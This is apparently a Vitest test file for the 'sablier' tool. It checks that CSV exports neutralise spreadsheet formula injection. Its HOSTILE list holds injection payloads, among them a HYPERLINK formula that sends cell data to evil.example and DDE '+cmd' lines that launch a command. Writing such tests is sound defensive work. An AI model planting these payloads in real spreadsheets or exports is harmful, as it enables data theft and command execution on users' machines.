import Papa from 'papaparse';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { POST_COLUMNS } from '../../../src/lib/canonical';
import { toCsv } from '../../../src/lib/server/export';

const run = promisify(execFile);
const BIN = join(import.meta.dirname, '..', '..', '..', 'bin', 'sablier.js');

/** What a spreadsheet does with a CSV cell: it starts a formula when the first character says so. */
const DANGER = new Set(['=', '+', '-', '@', '\t', '\r']);
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
const live = (cell: string) => DANGER.has(cell[0] ?? '') && !NUMBER.test(cell);

/** The spreadsheet's view of a CSV: every cell, parsed with quotes honoured. */
const cells = (csv: string) =>
	(Papa.parse<string[]>(csv, { skipEmptyLines: true }).data as string[][]).flat();

const HOSTILE = [
	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	'+cmd|" /C calc"!A0',
	'-2+3',
	'@SUM(1+1)*cmd|" /C calc"!A0',
	'\t=1+1',
	'\r=1+1',
	'=1+1\nsecond line',
	'-',
	'=',
	'-12'
];

describe('formula-safe CSV', () => {
	it('neutralises every text cell a spreadsheet would run; numbers stay numbers', () => {
		const rows = HOSTILE.map((text, i) => ({
			post_id: text,
			published_at: '2024-03-01 09:30:00',
			type: text,
			is_paid: false,
			message: text,
			permalink: null,
			reach_total: -12,
			reactions: i
		}));
		const csv = toCsv(rows, POST_COLUMNS);
		const all = cells(csv);
		expect(all.filter(live)).toEqual([]);
		// each hostile text came out once per text column, prefixed with ' and otherwise intact
		const parsed = Papa.parse<Record<string, string>>(csv, {
			header: true,
			skipEmptyLines: true
		}).data;
		expect(parsed.map((r) => r.message)).toEqual(HOSTILE.map((t) => `'${t}`));
		expect(parsed.map((r) => r.post_id)).toEqual(HOSTILE.map((t) => `'${t}`));
		expect(parsed.every((r) => r.reach_total === '-12')).toBe(true);
		expect(parsed.map((r) => r.reactions)).toEqual(HOSTILE.map((_, i) => String(i)));
	});

	it('plain texts are untouched (no quote added where nothing is dangerous)', () => {
		const csv = toCsv(
			[{ message: 'Nouveaux croissants = bonheur', post_id: ' =1' }],
			['post_id', 'message']
		);
		expect(cells(csv)).toEqual(['post_id', 'message', ' =1', 'Nouveaux croissants = bonheur']);
	});

	it('`sablier export posts --format csv` on a real store: no live formula; JSON stays exact', async () => {
		const dir = mkdtempSync(join(tmpdir(), 'sablier-formulas-'));
		const db = join(dir, 'store.duckdb');
		const file = join(dir, 'posts.csv');
		const header = POST_COLUMNS.join(',');
		const lines = HOSTILE.map((text, i) => {
			const row: Record<string, unknown> = {
				post_id: i === 9 ? '-12' : `${text}#${i}`,
				published_at: `2024-03-${String(i + 1).padStart(2, '0')} 09:30:00`,
				type: i % 2 ? text : 'photo',
				is_paid: 'false',
				message: text,
				reactions: 5
			};
			return Papa.unparse([POST_COLUMNS.map((c) => row[c] ?? '')], { newline: '\n' });
		});
		writeFileSync(file, [header, ...lines].join('\n') + '\n');
		const imported = await run('node', [BIN, 'import', '--db', db, '--page', 'p', file], {
			env: { ...process.env, LANG: 'en' }
		});
		expect(imported.stdout).toMatch(/10 inserted/);
		const out = join(dir, 'out.csv');
		await run('node', [BIN, 'export', 'posts', '--db', db, '--page', 'p', '--out', out]);
		const csv = readFileSync(out, 'utf8');
		const all = cells(csv);
		expect(all.length).toBe(11 * POST_COLUMNS.length);
		expect(all.filter(live)).toEqual([]);
		expect(all).toContain(`'${HOSTILE[0]}`);
		expect(all.filter((c) => c.startsWith("'")).length).toBeGreaterThanOrEqual(15);
		const { stdout } = await run('node', [
			BIN,
			'export',
			'posts',
			'--db',
			db,
			'--page',
			'p',
			'--format',
			'json'
		]);
		const json = JSON.parse(stdout) as { post_id: string; message: string }[];
		// JSON carries the stored texts exactly; the CSV differs only by the leading quote
		const fromCsv = Papa.parse<Record<string, string>>(csv, {
			header: true,
			skipEmptyLines: true
		}).data;
		expect(json.map((r) => r.message)).toEqual(
			fromCsv.map((r) => r.message.replace(/^'(?=[=+\-@\t\r])/, ''))
		);
		expect(json.map((r) => r.message)).toContain(HOSTILE[0]);
		expect(json.some((r) => r.message.startsWith("'"))).toBe(false);
	});
});
